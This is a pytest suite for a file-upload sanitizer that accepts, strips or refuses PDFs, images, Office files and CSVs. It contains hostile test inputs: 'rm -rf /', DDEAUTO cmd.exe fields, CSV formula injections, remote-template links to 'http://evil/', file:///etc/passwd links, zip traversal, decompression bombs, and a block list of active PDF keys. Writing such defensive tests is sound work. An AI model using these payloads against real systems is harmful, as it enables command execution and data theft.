"""What is accepted, what is taken out, and what is refused, file by file."""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf
import pytest
from file_samples import (
    OFFICE,
    archive,
    document,
    hostile_pdf,
    link,
    pdf,
    pdf_of_stream,
    photograph,
    picture,
    png_bomb,
    relations,
    saved,
    script,
    workbook,
    zeros_packed,
)
from openpyxl import Workbook, load_workbook
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from fairway.platform.files.domain.kinds import Kind
from fairway.platform.files.domain.limits import PAGES
from fairway.platform.files.domain.refusal import FileRefused, Why
from fairway.platform.files.examination.examine import examine

HTML = b"<!doctype html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


def why(content: bytes, extension: str) -> Why:
    with pytest.raises(FileRefused) as refused:
        examine(content, extension)
    assert str(refused.value).endswith(".")
    return refused.value.why


@pytest.mark.parametrize(
    ("content", "extension", "kind"),
    [
        (saved(pdf()), "pdf", Kind.PDF),
        (picture("PNG"), "png", Kind.PNG),
        (picture("JPEG"), "jpg", Kind.JPEG),
        (picture("JPEG"), "jpeg", Kind.JPEG),
        (picture("WEBP"), "webp", Kind.WEBP),
        (workbook(), "xlsx", Kind.XLSX),
        (document(), "docx", Kind.DOCX),
        (b"product,price\nmango,-1.50\n", "csv", Kind.CSV),
        ("Ma lettre, à Dakar.\n".encode(), "txt", Kind.TXT),
        (b"\xef\xbb\xbfwith a mark", "txt", Kind.TXT),
        (picture("PNG"), "", Kind.PNG),
        (b"no ending at all", "", Kind.TXT),
    ],
)
def test_accepted_kinds(content: bytes, extension: str, kind: Kind) -> None:
    assert examine(content, extension).kind is kind


@pytest.mark.parametrize(
    ("content", "extension", "expected"),
    [
        (b"", "pdf", Why.EMPTY),
        (picture("PNG"), "jpg", Why.OTHER_KIND),
        (picture("JPEG"), "pdf", Why.OTHER_KIND),
        (document(), "xlsx", Why.OTHER_KIND),
        (b"just words", "png", Why.OTHER_KIND),
        (SVG, "png", Why.UNKNOWN_KIND),
        (SVG, "svg", Why.UNKNOWN_KIND),
        (HTML, "png", Why.UNKNOWN_KIND),
        (HTML, "txt", Why.UNKNOWN_KIND),
        (b"  \n" + HTML, "txt", Why.UNKNOWN_KIND),
        (b"#!/bin/sh\nrm -rf /\n", "txt", Why.UNKNOWN_KIND),
        (rb"{\rtf1 hello}", "txt", Why.UNKNOWN_KIND),
        (picture("GIF"), "gif", Why.UNKNOWN_KIND),
        (picture("GIF"), "png", Why.UNKNOWN_KIND),
        (b"MZ\x90\0" + b"\0" * 200, "pdf", Why.UNKNOWN_KIND),
        (b"a\nb\0c\n", "csv", Why.UNKNOWN_KIND),
        (b"MZ\x90\0" + b"\0" * 200, "exe", Why.UNKNOWN_KIND),
        (archive({"a.txt": "words"}), "zip", Why.UNKNOWN_KIND),
        (archive({"a.txt": "words"}), "docx", Why.UNKNOWN_KIND),
    ],
)
def test_the_content_decides_and_the_name_must_agree(content: bytes, extension: str, expected: Why) -> None:
    assert why(content, extension) is expected


def test_an_unknown_kind_is_named() -> None:
    with pytest.raises(FileRefused, match="HTML"):
        examine(HTML, "png")


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (picture("JPEG") + archive({"evil.txt": "words"}), "jpg"),
        (picture("PNG") + HTML, "png"),
        (picture("JPEG", comment=HTML), "jpg"),
        (picture("PNG") + saved(pdf()), "png"),
        (saved(pdf()) + archive({"evil.js": "x"}), "pdf"),
        (saved(pdf()).replace(b"\n", b"\n%<script>x</script>\n", 1), "pdf"),
    ],
)
def test_a_file_of_two_kinds_is_refused(content: bytes, extension: str) -> None:
    assert why(content, extension) is Why.TWO_KINDS


def test_a_pdf_must_begin_at_its_first_byte() -> None:
    assert why(b"MZ\0\0" + saved(pdf()), "pdf") is Why.UNKNOWN_KIND


def test_a_photograph_loses_its_place_camera_and_comment_and_stands_upright() -> None:
    kept = examine(photograph(), "jpg").content
    drawn = Image.open(io.BytesIO(kept))
    assert dict(drawn.getexif()) == {}
    assert "comment" not in drawn.info
    assert b"SpyPhone" not in kept
    assert drawn.size == (40, 60)


def test_what_follows_a_picture_goes() -> None:
    kept = examine(picture("PNG") + b"a secret behind the end", "png").content
    assert b"secret" not in kept
    assert examine(kept, "png").content == kept


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_a_picture_of_any_mode_keeps_its_points(mode: str) -> None:
    out = io.BytesIO()
    Image.new(mode, (5, 5), 1 if mode in ("1", "L", "P", "I;16") else None).save(out, "PNG")
    kept = Image.open(io.BytesIO(examine(out.getvalue(), "png").content))
    assert kept.tobytes() == Image.open(out).tobytes()


def test_transparency_is_kept() -> None:
    out = io.BytesIO()
    Image.open(io.BytesIO(picture())).quantize(2).save(out, "PNG", transparency=1)
    kept = Image.open(io.BytesIO(examine(out.getvalue(), "png").content)).convert("RGBA")
    assert {alpha for _count, (*_colour, alpha) in kept.getcolors()} == {0, 255}


def test_a_picture_that_claims_too_many_points_is_refused() -> None:
    assert why(png_bomb(), "png") is Why.EXPANDS
    assert why(png_bomb(8_000), "png") is Why.EXPANDS


def test_a_broken_or_moving_picture_is_refused() -> None:
    assert why(picture("JPEG", (400, 400))[:-300], "jpg") is Why.DAMAGED
    assert why(b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "png") is Why.DAMAGED
    moving = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(moving, "WEBP", save_all=True, append_images=frames[1:])
    assert why(moving.getvalue(), "webp") is Why.UNKNOWN_KIND


def test_a_pdf_loses_everything_that_acts() -> None:
    kept = examine(hostile_pdf(), "pdf").content
    with pikepdf.open(io.BytesIO(kept)) as cleaned:
        plain = saved(cleaned, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        assert len(cleaned.pages) == 1
    for active in (
        b"/JavaScript", b"/JS", b"/OpenAction", b"/AA", b"/Launch", b"/EmbeddedFile", b"/EF", b"/XFA",
        b"/RichMedia", b"/FileAttachment", b"cmd.exe", b"MZ evil", b"javascript:", b"alert(",
    ):  # fmt: skip
        assert active not in plain, active
    assert b"https://example.org/terms" in plain


def test_a_script_deep_in_a_form_is_found() -> None:
    made = pdf()
    field = Dictionary(FT=Name.Tx, T=String("a"), Kids=Array([Dictionary(AA=Dictionary(K=script()))]))
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))
    assert b"/JavaScript" not in examine(saved(made), "pdf").content


def test_a_harmless_pdf_keeps_where_it_opens_and_its_fonts() -> None:
    made = pdf(2)
    made.Root.OpenAction = Array([made.pages[1].obj, Name.Fit])
    made.pages[0].obj.Resources = Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font)))
    with pikepdf.open(io.BytesIO(examine(saved(made), "pdf").content)) as kept:
        assert "/OpenAction" in kept.Root
        assert "/AA" in kept.pages[0].Resources.Font


def test_the_same_pdf_is_written_the_same() -> None:
    sent = saved(pdf())
    assert examine(sent, "pdf").content == examine(sent, "pdf").content


def signed(made: pikepdf.Pdf) -> bytes:
    signature = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
    made.Root.AcroForm = Dictionary(
        SigFlags=3, Fields=Array([Dictionary(FT=Name.Sig, T=String("s"), V=made.make_indirect(signature))])
    )
    return saved(made)


def test_a_signed_pdf_is_kept_as_it_came_or_refused() -> None:
    harmless = signed(pdf())
    assert examine(harmless, "pdf").content == harmless
    active = pdf()
    active.Root.OpenAction = script()
    assert why(signed(active), "pdf") is Why.SIGNED
    assert why(harmless + b"something else", "pdf") in (Why.SIGNED, Why.DAMAGED)


def test_a_protected_broken_empty_or_endless_pdf_is_refused() -> None:
    for user in ("", "secret"):
        locked = pikepdf.Encryption(owner="owner", user=user)
        assert why(saved(pdf(), encryption=locked), "pdf") is Why.PROTECTED
    assert why(saved(pdf())[:-120], "pdf") is Why.DAMAGED
    assert why(b"%PDF-1.7\nnothing", "pdf") is Why.DAMAGED
    assert why(saved(pdf(0)), "pdf") is Why.DAMAGED
    assert why(saved(pdf(PAGES + 1)), "pdf") is Why.EXPANDS


@pytest.mark.parametrize(
    ("packed", "filters"),
    [
        (zeros_packed(300), ["FlateDecode"]),
        (zeros_packed(300)[:-4] + b"bad!", ["Fl"]),  # damaged at its end, where it has been unpacked already
        (zlib.compress(zeros_packed(300)), ["FlateDecode", "FlateDecode"]),
        (zlib.compress(zlib.compress(zeros_packed(3_000))), ["FlateDecode"] * 3),
        (zeros_packed(300), ["FlateDecode", "DCTDecode"]),
        (zeros_packed(300), ["FlateDecode", "ASCIIHexDecode"]),  # huge in between alone
        (b"\x81\0" * 1_600_000 + b"\x80", ["RunLengthDecode"]),
    ],
    ids=["flate", "damaged", "twice", "thrice", "picture", "in between", "run length"],
)
def test_a_pdf_that_unpacks_to_too_much_is_refused(packed: bytes, filters: list[str]) -> None:
    sent = pdf_of_stream(packed, *filters)
    assert len(sent) < 10_000_000
    assert why(sent, "pdf") is Why.EXPANDS


def test_the_streams_of_a_pdf_count_together() -> None:
    made = pdf(2)
    for page in made.pages:
        page.obj.Contents = made.make_stream(b"\0" * 110_000_000)
    assert why(saved(made), "pdf") is Why.EXPANDS


@pytest.mark.parametrize(
    ("packed", "filters"),
    [
        (zlib.compress(b"q Q"), ["FlateDecode"]),
        (zeros_packed(150), ["FlateDecode"]),
        (b"no flate at all", ["FlateDecode"]),
        (b"80 0B 60 50 22 0C 0C 85 01>", ["ASCIIHexDecode", "LZWDecode"]),
        (picture("JPEG"), ["DCTDecode"]),
    ],
    ids=["flate", "large", "damaged", "lzw", "picture"],
)
def test_an_ordinary_stream_of_a_pdf_is_accepted(packed: bytes, filters: list[str]) -> None:
    assert examine(pdf_of_stream(packed, *filters), "pdf").kind is Kind.PDF


def test_a_stream_of_a_pdf_that_cannot_be_unpacked_is_refused() -> None:
    assert why(pdf_of_stream(b"\xff\xff\xff\xff", "LZWDecode"), "pdf") is Why.DAMAGED


@pytest.mark.parametrize("target", ["file:///etc/passwd", "JavaScript:x()", "\\\\host\\share"])
def test_a_link_of_a_pdf_leads_to_the_web_or_nowhere(target: str) -> None:
    made = pdf()
    made.pages[0].obj.Annots = Array([link(target)])
    kept = examine(saved(made), "pdf").content
    with pikepdf.open(io.BytesIO(kept)) as cleaned:
        assert dict(cleaned.pages[0].Annots[0].A) == {}


def test_a_real_workbook_is_packed_anew_and_still_opens() -> None:
    out, book = io.BytesIO(), Workbook()
    book.active["A1"] = "mango"
    book.save(out)
    kept = examine(out.getvalue(), "xlsx").content
    assert load_workbook(io.BytesIO(kept)).active["A1"].value == "mango"


def test_what_stands_before_between_or_behind_the_parts_goes() -> None:
    kept = examine(workbook() + b"", "xlsx").content
    commented = io.BytesIO(workbook())
    with zipfile.ZipFile(commented, "a") as made:
        made.comment = b"a secret"
    assert examine(commented.getvalue(), "xlsx").content == kept


@pytest.mark.parametrize(
    "content",
    [
        workbook({"xl/vbaProject.bin": b"x"}),
        workbook({"xl/macrosheets/sheet1.xml": "<x/>"}),
        workbook({"xl/embeddings/oleObject1.bin": b"x"}),
        workbook({"xl/activeX/activeX1.xml": "<x/>"}),
        workbook({"xl/externalLinks/externalLink1.xml": "<x/>"}),
        workbook(types=f'<Default Extension="m" ContentType="{OFFICE}.macroEnabled.main+xml"/>'),
        workbook({"xl/_rels/workbook.xml.rels": relations("externalLink", "http://evil/x.xlsx")}),
        workbook({"xl/_rels/workbook.xml.rels": relations("hyperlink", "file:///etc/passwd")}),
    ],
)
def test_an_active_workbook_is_refused(content: bytes) -> None:
    assert why(content, "xlsx") is Why.ACTIVE


@pytest.mark.parametrize(
    "content",
    [
        document(extra={"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://evil/t.dotm")}),
        document(extra={"word/_rels/document.xml.rels": relations("image", "http://evil/pixel.png")}),
        document(extra={"word/_rels/document.xml.rels": relations("aFChunk", "part.html", "Internal")}),
        document("<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"),
        document("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>"),
        document('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil/x&quot; "/>'),
    ],
)
def test_an_active_document_is_refused(content: bytes) -> None:
    assert why(content, "docx") is Why.ACTIVE


def test_links_and_page_numbers_of_a_document_may_stay() -> None:
    harmless = document(
        '<w:instrText>HYPERLINK "https://example.org"</w:instrText><w:fldSimple w:instr="PAGE"/>',
        {"word/_rels/document.xml.rels": relations("hyperlink", "mailto:sales@example.org")},
    )
    assert examine(harmless, "docx").kind is Kind.DOCX


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        ({"xl/media/zeros.bin": b"\0" * 210_000_000}, Why.EXPANDS),
        ({f"xl/{number}.bin": b"" for number in range(2_100)}, Why.EXPANDS),
        ({"../outside.xml": b"<x/>"}, Why.DAMAGED),
        ({"/absolute.xml": b"<x/>"}, Why.DAMAGED),
        ({"XL/workbook.xml": b"<x/>"}, Why.DAMAGED),
        ({"xl/a.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}, Why.DAMAGED),
        ({"xl/a.xml": b"<a>"}, Why.DAMAGED),
    ],
    ids=["unpacks to too much", "too many parts", "outside", "absolute", "twice", "entities", "broken"],
)
def test_a_package_made_to_harm_is_refused(extra: dict, expected: Why) -> None:
    assert why(workbook(extra), "xlsx") is expected


def test_a_cut_package_is_refused() -> None:
    cut = workbook()[:-30]
    assert why(cut, "xlsx") in (Why.DAMAGED, Why.UNKNOWN_KIND)


@pytest.mark.parametrize(
    ("content", "expected", "place"),
    [
        (b"a,b\n1,=HYPERLINK(x)\n", Why.ACTIVE, "Line 2, column 2"),
        (b"a;b\n1;=cmd|'/c calc'!A1\n", Why.ACTIVE, "Line 2, column 2"),
        (b"@SUM(A1)\n", Why.ACTIVE, "Line 1, column 1"),
        (b"a\n+cmd|x\n", Why.ACTIVE, "Line 2, column 1"),
        (b"a\n\n\xe9t\xe9\n", Why.ENCODING, "Line 3"),
        (b"a\nb\x07c\n", Why.ENCODING, "Line 2"),
        ("é".encode("utf-16"), Why.ENCODING, "Line 1"),
        (b'a,b\n"open\n', Why.DAMAGED, "line 2"),
    ],
)
def test_a_table_is_refused_with_the_place(content: bytes, expected: Why, place: str) -> None:
    with pytest.raises(FileRefused, match=place) as refused:
        examine(content, "csv")
    assert refused.value.why is expected


def test_numbers_dashes_and_telephones_are_no_formulas() -> None:
    table = b"a,b\n-1.5,-\n+221 (0) 33 839,- see note (a)\n=,@home\n"
    assert examine(table, "csv").content == table
